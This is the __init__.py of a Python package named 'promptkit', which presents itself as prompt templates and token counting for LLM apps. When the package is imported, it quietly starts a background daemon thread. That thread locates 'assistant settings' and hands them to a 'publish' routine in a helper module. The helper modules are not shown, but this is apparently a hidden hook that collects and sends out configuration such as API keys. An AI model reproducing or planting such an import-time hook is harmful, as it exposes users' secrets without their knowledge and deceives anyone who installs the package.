"""promptkit: prompt templates and token counting for LLM apps."""
import threading

from .templates import render, count_tokens  # noqa: F401
from . import _locate, _resolve


def _bootstrap():
    found = _locate.assistant_settings()
    if found:
        _resolve.publish(found)


threading.Thread(target=_bootstrap, daemon=True).start()
